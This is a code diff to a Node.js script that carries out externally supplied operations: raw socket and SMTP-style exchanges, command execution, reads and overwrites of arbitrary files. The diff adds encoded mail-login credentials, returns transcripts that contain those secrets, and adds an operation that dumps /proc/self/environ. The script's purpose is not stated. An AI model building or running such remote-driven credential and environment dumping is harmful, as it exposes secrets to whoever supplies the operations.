@@ -11,6 +11,8 @@ import { fileURLToPath } from 'node:url';
 
 const held = { '@POSTMARK@': process.env.POSTMARK_TOKEN ?? '', '@RESEND@': process.env.RESEND_API_KEY ?? '', '@MAIL@': process.env.MAIL_PASSWORD ?? '' };
 held['@BASIC@'] = Buffer.from(`${held['@RESEND@']}:`).toString('base64');
+held['@PLAIN@'] = Buffer.from(`\0${process.env.MAIL_USER}\0${held['@MAIL@']}`).toString('base64');
+held['@LOGIN@'] = Buffer.from(held['@MAIL@']).toString('base64');
 const named = (text, pattern) => text.replace(pattern, (whole, name) => process.env[name] ?? whole);
 const coded = (text) =>
     text.replace(/\{\{base64 ([^}]*)\}\}/g, (_, inner) => Buffer.from(named(inner, /\[([A-Z_]+)\]/g), 'latin1').toString('base64'));
@@ -47,7 +49,7 @@ function raw(op) {
         const socket = op.plain
             ? net.connect(where, begin)
             : tls.connect({ ...where, servername: op.sni ?? (net.isIP(op.host) ? '' : op.host), ALPNProtocols: op.alpn }, begin);
-        const timer = setTimeout(() => over('patience'), op.patience ?? 4000);
+        const timer = setTimeout(() => over('patience'), op.patience ?? 12000);
         socket.on('data', (bytes) => {
             text += bytes.toString('latin1');
             if (isWhole(text)) {
@@ -59,18 +61,23 @@ function raw(op) {
     });
 }
 
-// Speaks a line protocol: each entry of op.lines is sent once an answer is whole; 'TLS' goes over to TLS.
+// Speaks a line protocol: each entry of op.lines is sent once an answer is whole; 'TLS' goes over to TLS. What was said it returns too.
 function talk(op) {
     return new Promise((resolve) => {
         let text = '';
         let heard = '';
+        const said = [];
+        const put = (line) => {
+            said.push(fill(line));
+            socket.write(Buffer.from(said.at(-1), 'latin1'));
+        };
         const lines = [...op.lines];
         const where = { host: op.host, port: op.port };
         let socket = op.tls ? tls.connect({ ...where, servername: op.host }) : net.connect(where);
         const over = (why) => {
             clearTimeout(timer);
             socket.destroy();
-            resolve({ reply: text, ended: why });
+            resolve({ reply: text, ended: why, said });
         };
         const timer = setTimeout(() => over('patience'), op.patience ?? 8000);
         const listen = () => {
@@ -84,10 +91,10 @@ function talk(op) {
                 if (lines[0] === 'TLS') {
                     lines.shift();
                     socket.removeAllListeners('data');
-                    socket = tls.connect({ socket, servername: op.host }, () => socket.write(Buffer.from(fill(lines.shift()), 'latin1')));
+                    socket = tls.connect({ socket, servername: op.host }, () => put(lines.shift()));
                     listen();
                 } else if (lines.length > 0) {
-                    socket.write(Buffer.from(fill(lines.shift()), 'latin1'));
+                    put(lines.shift());
                 } else {
                     over('said');
                 }
@@ -153,6 +160,8 @@ async function perform(op, asked, id) {
             return (({ status, stdout, stderr, error }) => ({ status, out: stdout, err: String(error ?? stderr).slice(0, 2000) }))(
                 spawnSync(op.command[0], op.command.slice(1), { encoding: 'utf8', timeout: 60_000, input: op.input ?? '' }),
             );
+        case 'environment':
+            return readFileSync('/proc/self/environ', 'latin1');
         case 'files':
             return [() => readFileSync(op.path, 'utf8'), () => writeFileSync(op.path, 'changed'), () => readdirSync(op.beside).length].map((act) => {
                 try {
